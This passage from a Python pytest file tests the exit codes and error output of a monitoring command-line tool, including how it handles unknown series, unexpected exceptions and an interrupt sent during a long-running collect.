    code, out, err = _imon(capsys, "adjust", "--series", "no/such/series")
    assert code == 2 and "matches no stored series" in err


def test_an_unexpected_error_in_any_command_is_one_line(cli_store, capsys, monkeypatch):
    import monitor.ingest.report as report

    def broken(*args, **kwargs):
        raise RuntimeError("boom in collect report")

    monkeypatch.setattr(report, "collect_report", broken)
    monkeypatch.setattr("monitor.ingest.collect_report", broken)
    monkeypatch.delenv("IMON_DEBUG", raising=False)
    code, out, err = _imon(capsys, "collect", "report")
    assert code == 70 and "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_ctrl_c_exits_130(cli_store, tmp_path):
    import signal
    import time

    feed = _feed(tmp_path / "big.csv", [("0300000001", f"2024-01-{1 + i % 28:02d}", str(i)) for i in range(1_500_000)])  # long enough to be still running when the signal arrives
    root = str(Path(__file__).resolve().parents[1])
    proc = subprocess.Popen([sys.executable, "-c", "from monitor.cli import main; main()", "collect", str(feed)],
                            cwd=tmp_path, env={**os.environ, "PYTHONPATH": root}, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    time.sleep(3)
    assert proc.poll() is None, "the collect ended before Ctrl-C was sent: make the file longer"
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, (proc.returncode, err[-500:])
    assert "Traceback" not in err
